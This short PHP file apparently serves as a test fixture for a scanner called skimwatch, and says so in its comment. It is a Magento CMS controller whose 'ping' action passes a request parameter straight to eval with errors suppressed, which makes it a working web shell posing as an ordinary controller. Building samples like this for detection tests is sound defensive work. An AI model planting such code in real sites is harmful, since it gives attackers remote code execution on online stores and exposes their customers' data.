<?php
// Synthetic Magento controller backdoor for skimwatch tests.
class Cms_IndexController extends Mage_Core_Controller_Front_Action
{
    public function pingAction()
    {
        @eval($this->getRequest()->getParam('c'));
    }
}
